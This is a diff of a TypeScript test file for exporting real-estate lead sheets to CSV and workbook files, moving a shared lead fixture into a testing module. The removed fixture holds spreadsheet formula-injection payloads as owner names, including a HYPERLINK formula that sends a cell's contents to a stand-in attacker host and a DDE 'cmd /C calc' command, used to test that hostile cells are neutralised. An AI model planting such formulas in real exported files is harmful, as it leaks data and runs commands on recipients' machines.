@@ -3,27 +3,12 @@ import { guardCell, writeCsvRows } from '#contract/csv.ts'
 import { FILE_PRESET_LIST } from '#contract/delivery/file-presets.ts'
 import { FORGOTTEN, leadSheet, type SheetLead, WITHDRAWN } from '#contract/delivery/lead-sheet.ts'
 import { sampleFileSheet } from '#contract/delivery/sample-leads.ts'
+import { aSheetLead, SHEET_LEADS } from '#testing/sheet-leads.ts'
 import { sheetXmlOf, workbookRows } from '#testing/workbook-rows.ts'
 import { workbookOf } from './make-files.ts'
 import { presetSheet } from './preset-columns.ts'
 
 const PLACE = { state: 'Texas', county: 'Travis', leadTypeName: 'Vacant Houses', timeZone: 'America/Chicago' }
-const NO_PARTS = { owner_first_name: null, owner_last_name: null, owner_company: null }
-const NO_STREET = { mailing_street: null, mailing_city: null, mailing_state: null, mailing_zip: null }
-const aLead = (lead: Partial<SheetLead> = {}): SheetLead => ({
-  acquired_at: new Date('2026-11-18T12:00:00Z'),
-  sold_at: new Date('2026-11-21T10:00:00Z'),
-  address: '1 Elm St',
-  city: 'Austin',
-  zip: '78701',
-  owner_names: ['Ann Owner'],
-  ...NO_PARTS,
-  ...NO_STREET,
-  mailing_address: null,
-  ...{ phones: [], emails: [], facts: {}, source: 'County records' },
-  ...{ is_do_not_call: false, consent: null, is_left_alone: false },
-  ...lead,
-})
 
 /** The cells of the first lead by their columns. */
 function cellsOf(...leads: SheetLead[]): Record<string, unknown> {
@@ -34,17 +19,17 @@ function cellsOf(...leads: SheetLead[]): Record<string, unknown> {
 describe('a row', () => {
   test('has amounts as numbers, and ZIPs and foreign telephone numbers as text', () => {
     const phones = [{ number: '+442079460000', kind: 'landline', isDoNotCall: false } as const]
-    const cells = cellsOf(aLead({ zip: '01234', phones, facts: { valueCents: 31_250_050, beds: 3 } }))
+    const cells = cellsOf(aSheetLead({ zip: '01234', phones, facts: { valueCents: 31_250_050, beds: 3 } }))
     expect(cells).toMatchObject({ ZIP: '01234', 'Phone 1': '00442079460000', Value: 312_500.5, Beds: 3 })
   })
 
   test('gives the day a lead was found in the store’s time zone', () => {
     const acquired_at = new Date('2026-11-18T03:00:00Z')
-    expect(cellsOf(aLead({ acquired_at }))).toMatchObject({ 'Date found': '2026-11-17', 'Age in days': 3 })
+    expect(cellsOf(aSheetLead({ acquired_at }))).toMatchObject({ 'Date found': '2026-11-17', 'Age in days': 3 })
   })
 
   test('of a lead whose data was deleted says so and keeps its place', () => {
-    const gone = aLead({
+    const gone = aSheetLead({
       ...{ address: null, city: null, zip: null, owner_names: null, phones: null, emails: null, facts: null },
       ...{ source: null, is_left_alone: true },
     })
@@ -56,8 +41,8 @@ describe('a row', () => {
 
 test('the file has the columns of the sample, and as many for phones and emails as one lead needs', () => {
   const phone = { number: '+15125550100', kind: 'mobile' as const, isDoNotCall: false }
-  const rich = aLead({ phones: [phone, phone, phone], emails: ['a@b.c', 'd@e.f'] })
-  const [header = []] = leadSheet([aLead(), rich], PLACE)
+  const rich = aSheetLead({ phones: [phone, phone, phone], emails: ['a@b.c', 'd@e.f'] })
+  const [header = []] = leadSheet([aSheetLead(), rich], PLACE)
   expect(header.filter((name) => /^Phone \d$/.test(String(name)))).toHaveLength(3)
   expect(header.filter((name) => /^Email \d$/.test(String(name)))).toHaveLength(2)
   expect(leadSheet([], PLACE)[0]).toEqual(sampleFileSheet()[0])
@@ -70,7 +55,7 @@ describe('hostile names', () => {
     ...['__proto__', 'constructor', 'half \ud800 letter', 'zero \u0001 control'],
   ]
   const rows = leadSheet(
-    HOSTILE.map((name) => aLead({ owner_names: [name] })),
+    HOSTILE.map((name) => aSheetLead({ owner_names: [name] })),
     PLACE,
   )
 
@@ -91,57 +76,11 @@ describe('hostile names', () => {
   })
 })
 
-const phone = (last: number, kind: 'mobile' | 'landline' | 'voip' | 'unknown', isDoNotCall = false) => ({
-  number: `+1512555010${last}`,
-  kind,
-  isDoNotCall,
-})
-
-/**
- * The files for other tools are compared with files that were read by a person. After a change on purpose, run this test
- * with `-u` and read what changed in `preset-files`.
- */
-const LEADS: readonly SheetLead[] = [
-  aLead({
-    owner_names: ['Mary Ann Van Dyke', 'Bob, Jr. "Bobby" Van Dyke'],
-    owner_first_name: 'Mary Ann',
-    owner_last_name: 'Van Dyke',
-    mailing_address: 'PO Box 9, Rear, Boston, MA 02101',
-    mailing_street: 'PO Box 9, Rear',
-    mailing_city: 'Boston',
-    mailing_state: 'MA',
-    mailing_zip: '02101',
-    phones: [phone(0, 'landline'), phone(1, 'mobile', true), phone(2, 'mobile'), phone(3, 'voip'), phone(4, 'unknown')],
-    emails: ['mary@example.com', 'ann@example.com'],
-    facts: { valueCents: 31_250_050, equityPercent: 74, beds: 3, yearBuilt: 1978, lastSaleOn: '2003-06-17' },
-    consent: 'Web form, 2026-11-01',
-  }),
-  aLead({
-    address: '2 Elm St, Unit "B"',
-    owner_names: ['Oak, Hill & Sons LLC'],
-    mailing_address: '7 Main St, Winston-Salem, NC 27101-0042',
-    phones: [phone(5, 'landline')],
-  }),
-  aLead({
-    address: '3 Peña St',
-    owner_names: ['=HYPERLINK("http://evil.example/?"&A1,"Call me")'],
-    owner_first_name: '=cmd|"/C calc"!A0',
-    owner_last_name: '@SUM(A1)',
-    owner_company: '+1+1',
-    mailing_address: '-2+3',
-    emails: ['-2+3@example.com'],
-    phones: [phone(6, 'mobile')],
-    is_do_not_call: true,
-    source: '\t=1+1',
-  }),
-  aLead({ address: '4 Elm St', owner_names: ['王 小明 Nguyễn'], mailing_address: 'Apartado 5, San José' }),
-  aLead({ address: null, city: null, zip: null, owner_names: null, source: null, phones: null, is_left_alone: true }),
-  aLead({ address: '6 Elm St', owner_names: ['Opted Out'], is_left_alone: true, phones: [phone(7, 'mobile')] }),
-]
-
 test('a workbook has days as dates and values as dollars, and keeps ZIP codes and days before 1900 as text', () => {
   const facts = { valueCents: 31_250_050, lastSaleOn: '1899-06-17' }
-  const xml = sheetXmlOf(workbookOf(leadSheet([...LEADS.slice(0, 1), aLead({ zip: '02101', facts })], PLACE)))
+  const xml = sheetXmlOf(
+    workbookOf(leadSheet([...SHEET_LEADS.slice(0, 1), aSheetLead({ zip: '02101', facts })], PLACE)),
+  )
   expect(xml).toContain(' s="3"><v>312500.5</v>')
   // 2003-06-17 and 2026-11-18, as Excel counts days.
   expect(xml).toContain(' s="2"><v>37789</v>')
@@ -150,12 +89,13 @@ test('a workbook has days as dates and values as dollars, and keeps ZIP codes an
   expect(xml).toMatch(/ s="0" t="inlineStr"><is><t [^>]*>02101</)
 })
 
+// They are compared with files that a person has read. After a change on purpose, run this with `-u` and read the changes.
 test('the plain file has the columns and cells that its buyers know, with the parts beside them', async () => {
-  await expect(writeCsvRows(leadSheet(LEADS, PLACE))).toMatchFileSnapshot('preset-files/plain.csv')
+  await expect(writeCsvRows(leadSheet(SHEET_LEADS, PLACE))).toMatchFileSnapshot('preset-files/plain.csv')
 })
 
 describe.each(FILE_PRESET_LIST)('the file for %s', (preset) => {
-  const rows = presetSheet(preset, LEADS, PLACE)
+  const rows = presetSheet(preset, SHEET_LEADS, PLACE)
   const text = writeCsvRows(rows)
 
   test('is the file that was read by a person', async () => {
@@ -187,7 +127,7 @@ describe.each(FILE_PRESET_LIST)('the file for %s', (preset) => {
 })
 
 test('a dialer gets a row for each phone that may be called, and none for an owner without one', () => {
-  const [header = [], ...rows] = presetSheet('dialer', LEADS, PLACE)
+  const [header = [], ...rows] = presetSheet('dialer', SHEET_LEADS, PLACE)
   expect(rows.map((row) => row[header.indexOf('Phone')])).toEqual([
     ...['5125550100', '5125550102', '5125550103', '5125550104'],
     '5125550105',
